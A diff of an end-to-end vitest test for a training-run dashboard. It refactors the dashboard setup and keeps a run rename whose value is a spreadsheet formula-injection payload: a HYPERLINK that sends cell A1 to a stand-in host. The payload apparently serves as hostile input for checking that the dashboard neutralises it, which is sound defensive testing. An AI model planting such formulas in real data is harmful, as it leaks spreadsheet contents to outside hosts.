@@ -5,14 +5,12 @@
 // with `cohort run --tag/--notes` (item 11). The run is a real tiny local run made by
 // the real CLI in the dashboard's data directory. Screenshot of Live at 1280×800.
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, readFileSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import type { RunMeta } from '../../electron/common';
-import { openDashboard, type Dashboard } from './open-dashboard';
-import { CHROMIUM, ROOT } from './serve-process';
-
-const ARTIFACTS = join(ROOT, 'test-artifacts');
+import { useDashboard, type Dashboard } from './open-dashboard';
+import { ARTIFACTS, CHROMIUM, ROOT } from './serve-process';
 
 describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => {
   let dash: Dashboard;
@@ -20,9 +18,9 @@ describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => 
   let runId = '';
   const cohort = (args: string[]) => spawnSync(process.execPath, [join(ROOT, 'bin', 'cohort.mjs'), ...args], { env, encoding: 'utf8', timeout: 180_000 });
 
+  const ui = useDashboard();
   beforeAll(async () => {
-    mkdirSync(ARTIFACTS, { recursive: true });
-    dash = await openDashboard();
+    dash = ui();
     env = { ...process.env, COHORT_DATA_DIR: dash.serve.dataDir, COHORT_CONFIG_DIR: join(dash.serve.dataDir, '..', 'config'), NO_COLOR: '1' };
     const r = cohort(['run', '--local', '--stem', 'cifar', '--image-size', '8', '--batch-size', '2', '--classes', '10', '--steps', '6', '--log-steps', '1', '--warmup-steps', '0', '--tag', 'baseline', '--notes', 'before the change', '--json']);
     expect(r.status, r.stderr).toBe(0);
@@ -30,7 +28,6 @@ describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => 
     const ren = cohort(['runs', 'rename', runId, '--', '-2+3+HYPERLINK("http://x.example/?q="&A1,"o")']);
     expect(ren.status, ren.stderr).toBe(0);
   }, 240_000);
-  afterAll(() => dash?.dispose());
 
   it('Live leads with the median of a finished run, the last window below it', async () => {
     const { page, serve } = dash;
